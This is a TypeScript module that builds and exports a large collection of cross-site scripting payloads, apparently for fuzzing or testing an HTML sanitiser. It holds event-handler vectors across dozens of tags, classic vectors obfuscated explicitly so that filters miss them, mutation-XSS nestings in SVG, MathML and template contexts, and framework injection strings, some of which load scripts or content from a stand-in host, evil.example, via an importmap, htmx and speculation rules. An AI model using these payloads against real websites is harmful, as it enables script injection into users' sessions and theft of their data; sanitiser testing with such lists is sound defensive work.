/** Script in HTML: handlers on tags, the same vector written in many ways, and elements that leave their place. */
import { around, each, pick } from "./combine.ts";

const handlers =
  ("load error focus blur focusin focusout click dblclick auxclick contextmenu mouseover mouseenter mousemove mouseout " +
    "mousedown mouseup pointerenter pointerover pointerdown pointermove pointerrawupdate gotpointercapture wheel keydown " +
    "keypress keyup input beforeinput change select selectstart selectionchange submit reset invalid formdata search " +
    "toggle beforetoggle close cancel animationstart animationiteration animationend webkitanimationstart " +
    "transitionrun transitionend scroll scrollend resize hashchange popstate pageshow pagehide message storage " +
    "beforeunload unload beforeprint play playing pause canplay loadstart loadedmetadata loadeddata progress suspend " +
    "timeupdate cuechange durationchange ratechange volumechange waiting copy cut paste drag dragstart dragover drop " +
    "touchstart touchmove begin end repeat start finish bounce readystatechange slotchange securitypolicyviolation " +
    "contentvisibilityautostatechange beforematch fullscreenchange beforexrselect scrollsnapchange command")
    .split(" ");

/** Up to where a handler goes. */
const tags = [
  "<img src=x",
  "<svg",
  "<body",
  "<input autofocus",
  "<details open",
  "<video src=x autoplay",
  "<audio src=x autoplay",
  "<iframe src=about:blank",
  "<object data=x",
  "<marquee width=10 loop=1",
  "<select autofocus",
  "<textarea autofocus",
  "<a href=# autofocus tabindex=1",
  "<div contenteditable autofocus tabindex=0",
  "<p style=animation:x",
  "<math href=#",
  "<form action=#",
  "<button autofocus popovertarget=x",
  "<style",
  "<link rel=stylesheet href=x",
  "<script src=x",
  "<embed src=x",
  "<dialog open",
  "<x-y tabindex=0 autofocus",
  "<template shadowrootmode=open",
  "<slot name=x",
  "<table background=x",
  "<picture><source srcset=x><img src=x",
  "<video><source src=x",
  "<video><track default src=x",
  "<frameset",
  "<svg><animate attributeName=x dur=1s",
  "<svg><set attributeName=x",
  "<svg><image href=x",
  "<kbd",
  "<mark",
  "<sub",
  "<br",
  "<summary",
  "<search",
];

/** Ways to write the name and the value of a handler. */
const writings: ((name: string, code: string) => string)[] = [
  (name, code) => ` on${name}=${code}>`,
  (name, code) => ` on${name}="${code}">`,
  (name, code) => ` on${name}='${code}'>`,
  (name, code) => ` on${name}=\`${code}\`>`,
  (name, code) => `/on${name}=${code}//>`,
  (name, code) => `\ton${name}\t=\t${code}>`,
  (name, code) => `\non${name}\n=\n"${code}"\n>`,
  (name, code) => `\fon${name}\f=${code}>`,
  (name, code) => ` ON${name.toUpperCase()}=${code}>`,
  (name, code) => ` on${name}=${code.replace("alert", "&#97;lert")}>`,
  (name, code) => ` on${name}="${code.replace("(", "&lpar;").replace(")", "&rpar;")}">`,
  (name, code) => ` x="&quot;" y='>' on${name}=${code}>`,
  (name, code) => ` on${name}="javascript:${code}">`,
  (name, code) => ` on${name}=${code} `,
];

const onTags = handlers.flatMap((name, index) =>
  [0, 1, 2].map((turn) => {
    const place = index * 3 + turn;
    return pick(tags, place * 7 + turn) + pick(writings, place)(name, "alert(1)");
  })
);

/** The classic ones, which run by themselves, written so that a pattern would miss them. */
const classics = each(
  [
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<script>alert(1)</script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
  ],
  [
    (text) => text.toUpperCase().replaceAll("ALERT", "alert"),
    (text) => text.replace(" ", "/"),
    (text) => text.replace(" ", "\n"),
    (text) => text.replace(" ", "\t\f"),
    (text) => `<${text}`,
    (text) => text.replace("<", "<x>"),
    (text) => text.replace("<", "</p><"),
    (text) => text.slice(0, -1),
    (text) => text.replace(">", " >"),
    (text) => `"'>${text}`,
    (text) => `\`>${text}`,
    (text) => `--></title></textarea></style></xmp></noscript>${text}`,
    (text) => `]]>${text}`,
    (text) => `*/${text}/*`,
    (text) => `\\${text}`,
    (text) => text.replace("<", "&lt;"),
    (text) => text.replaceAll("<", "&#60;").replaceAll(">", "&#62;"),
    (text) => text.replaceAll("<", "&#x3C").replaceAll(">", "&#x3E"),
    (text) => text.replaceAll("<", "%3C").replaceAll(">", "%3E"),
    (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
    (text) => text.replaceAll("<", "\\x3c").replaceAll(">", "\\x3e"),
    (text) => text.replaceAll("<", "＜").replaceAll(">", "＞"),
    (text) => text.replaceAll("<", "‹").replaceAll(">", "›"),
    (text) => text.replaceAll("<", "<<!-- -->"),
    (text) => text.replace(/^<(\w+)/, "<$1 x='"),
    (text) => `${text}${text}`,
    (text) => [...text].join("\0"),
    (text) => text.replace(/s/g, "ſ").replace(/i/g, "ı"),
  ],
);

/** Elements whose inside is read by other rules: what is text to one parser is a tag to the next. */
const outers = [
  "<svg>§</svg>",
  "<svg><desc>§</desc></svg>",
  "<svg><title>§</title></svg>",
  "<svg><foreignObject>§</foreignObject></svg>",
  "<svg><style>§</style></svg>",
  "<math>§</math>",
  "<math><mtext>§</mtext></math>",
  "<math><mi><mglyph>§</mglyph></mi></math>",
  "<math><mtext><malignmark>§</malignmark></mtext></math>",
  "<math><annotation-xml encoding='text/html'>§</annotation-xml></math>",
  "<math><annotation-xml encoding='application/xhtml+xml'><style>§</style></annotation-xml></math>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;§'></table></mtext></math>",
  "<svg></p><style><a title='</style>§'>",
  "<math></br><style><a title='</style>§'>",
  "<form><math><mtext></form><form><mglyph><style></math>§",
  "<noscript><p title='</noscript>§'></noscript>",
  "<template>§</template>",
  "<template shadowrootmode=open>§</template>",
  "<div><template shadowrootmode=closed><slot></slot>§</template></div>",
  "<style><!--</style>§",
  "<title>§</title>",
  "<textarea>§</textarea>",
  "<textarea></textarea>§",
  "<xmp>§</xmp>",
  "<noembed>§</noembed>",
  "<noframes>§</noframes>",
  "<iframe>§</iframe>",
  "<plaintext>§",
  "<listing>§</listing>",
  "<select>§</select>",
  "<select><option>§</select>",
  "<table>§</table>",
  "<table><caption>§</caption></table>",
  "<table><colgroup>§</colgroup></table>",
  "<table><tr><td>§</td></tr></table>",
  "<frameset>§</frameset>",
  "<object>§</object>",
  "<video>§</video>",
  "<!--§-->",
  "<!-->§-->",
  "<!--->§-->",
  "<!-- --!>§-->",
  "<!---->§",
  "<![CDATA[§]]>",
  "<svg><![CDATA[><§]]></svg>",
  "<?php §?>",
  "<!DOCTYPE §>",
  "</§",
  "<a <§",
  "<a title='§'>",
  '<a title="§">',
  "<a title=§>",
  "<details>\n<summary>§</summary>\n\n§\n\n</details>",
  "<kbd>§</kbd>",
  "<mark><sub>§</mark></sub>",
  "<sup><details>§</sup></details>",
  "<br>§<br/>",
];

const nested = around(outers, [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<style onload=alert(1)></style>",
]);

/** Code that frameworks would run out of an attribute or between braces. */
const frameworks = [
  "{{constructor.constructor('alert(1)')()}}",
  "{{_c.constructor('alert(1)')()}}",
  "{%raw%}<script>alert(1)</script>{%endraw%}",
  "#{alert(1)}",
  "${alert(1)}",
  "`${alert(1)}`",
  "<%= alert(1) %>",
  "[[${alert(1)}]]",
  "<div ng-app ng-csp><p ng-click=$event.view.alert(1)>x</p></div>",
  "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
  "<div x-data x-init=alert(1)></div>",
  "<div @click=alert(1) :onclick=alert(1)>x</div>",
  "<div hx-on:load=alert(1) hx-get=https://evil.example hx-trigger=load></div>",
  "<div data-bind='click: alert(1)'>x</div>",
  "<div _='on load call alert(1)'></div>",
  "<div f-client-nav f-partial=https://evil.example>x</div>",
  "<!--frsh:island:ChatComposer:0:--><!--/frsh:island-->",
  "<!--frsh-ChatComposer:0:0--><!--/frsh-ChatComposer:0-->",
  "<script type=application/json id=__FRSH_STATE>[[],[]]</script>",
  '<script type=importmap>{"imports":{"preact":"https://evil.example/x.js"}}</script>',
  '<script type=speculationrules>{"prerender":[{"urls":["https://evil.example"]}]}</script>',
  "<div dangerouslySetInnerHTML={{__html:'<img src=x onerror=alert(1)>'}} />",
];

export const htmlPayloads: string[] = [...onTags, ...classics, ...nested, ...frameworks];
